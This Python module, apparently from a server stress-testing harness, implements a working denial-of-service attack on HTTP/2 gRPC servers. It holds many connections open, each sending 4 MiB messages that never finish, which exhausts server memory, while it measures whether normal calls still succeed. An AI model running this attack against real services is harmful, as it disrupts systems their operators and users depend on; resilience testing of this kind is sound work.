"""The attack on the memory of messages that are not whole; hostile_attacks.py says what an attack
is.
"""

import contextlib
import time

from hostile import *  # noqa: F403: frames by name

# The largest message that servers take by default.
MESSAGE = 4 << 20
CONNECTIONS, CALLS = 200, 40
FRAME = 16_384


class _Upload:
    """A connection that sends messages as far as the server gives it credit."""

    def __init__(self, siege, method="UnaryCall"):
        self.siege = siege
        self.peer = Peer(siege.place.port, siege.place.tls)
        self.peer.greet()
        self.fields = siege.fields(method)
        self.next = 1
        # Bytes sent, by stream; 0 is the connection.
        self.sent = {0: 0}

    def open(self):
        stream, self.next = self.next, self.next + 2
        self.send(self.siege.head(stream, self.fields))
        self.sent[stream] = 0
        return stream

    def following(self, stream, body):
        """The next frame of a message, to be sent; empty where there is no credit for it."""
        at = self.sent[stream]
        count = min(FRAME, len(body) - at, self._room(stream), self._room(0))
        if count <= 0:
            return b""
        self.sent[stream] += count
        self.sent[0] += count
        return frame(DATA, 0, stream, body[at : at + count])

    def send(self, chunk):
        self.peer.socket.settimeout(PATIENCE)
        self.peer.send(chunk)

    def read(self, seconds):
        self.peer.until(lambda: False, seconds)

    def _room(self, stream):
        granted = self.peer.settings.get(WINDOW_SIZE, 65_535) if stream else 65_535
        return granted + self.peer.windows.get(stream, 0) - self.sent[stream]


class _Holder(_Upload):
    """Messages that grow together, and lack their last bytes."""

    body = bytes([0]) + MESSAGE.to_bytes(4, "big") + bytes(MESSAGE - 8)

    def __init__(self, siege):
        super().__init__(siege)
        self.streams = [self.open() for _ in range(CALLS)]

    def fill(self):
        """Goes on until the server refuses a call or all lack their ends only. A refused call is
        followed by another one."""
        while self.siege.goes_on and not self.peer.is_closed:
            frames = b"".join(self.following(stream, self.body) for stream in self.streams)
            if frames:
                self.send(frames)
            self.read(0.001 if frames else 0.01)
            refused = [stream for stream in self.streams if self.peer.answered(stream)]
            for stream in refused:
                self.siege.count("calls refused")
                self.streams.remove(stream)
                self.streams.append(self.open())
            if refused or all(self.sent[stream] == len(self.body) for stream in self.streams):
                return


def _number(value):
    """A varint."""
    rest, low = value >> 7, value & 0x7F
    return bytes([low | 0x80]) + _number(rest) if rest else bytes([low])


def _field(number, value):
    return bytes([number << 3 | 2]) + _number(len(value)) + value


# SimpleRequest{payload{body}}, close to the limit.
_WHOLE = message(_field(3, _field(2, bytes(MESSAGE - 32))))


def _make_call(siege):
    """A call of a client that behaves, with a large message."""
    upload = _Upload(siege)
    with contextlib.closing(upload.peer):
        stream = upload.open()
        deadline = time.monotonic() + PATIENCE
        while upload.sent[stream] < len(_WHOLE) and time.monotonic() < deadline:
            if upload.peer.answered(stream) or upload.peer.is_closed:
                break
            if frames := upload.following(stream, _WHOLE):
                upload.send(frames)
            else:
                upload.read(0.001)
        else:
            upload.send(frame(DATA, END_STREAM, stream))
        outcome = upload.peer.outcome(stream)
    siege.count("whole messages" if outcome == "grpc:0" else f"whole messages with {outcome}")


def held_messages(siege):
    """Messages of 4 MiB but for their last bytes: each connection takes what it gets. Meanwhile a
    whole one is sent each second."""
    holders, second = [], None
    while siege.goes_on:
        for holder in [holder for holder in holders if holder.peer.is_closed]:
            siege.count("cut off")
            holders.remove(holder)
            holder.peer.close()
        if len(holders) < CONNECTIONS:
            holders.append(_Holder(siege))
            siege.count("connections")
            holders[-1].fill()
        else:
            for holder in holders:
                holder.fill()
        if (now := int(time.monotonic())) != second:
            second = now
            _make_call(siege)
    for holder in holders:
        holder.peer.close()
